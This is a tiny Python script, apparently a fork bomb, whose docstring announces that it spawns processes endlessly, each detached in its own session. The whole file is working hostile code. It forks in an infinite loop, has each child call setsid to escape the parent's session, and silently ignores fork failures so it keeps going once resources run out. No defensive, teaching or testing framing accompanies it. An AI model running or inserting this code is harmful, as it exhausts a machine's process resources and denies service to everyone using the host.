"""Starts processes without end, each in a session of its own, and goes on when one more is refused."""
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
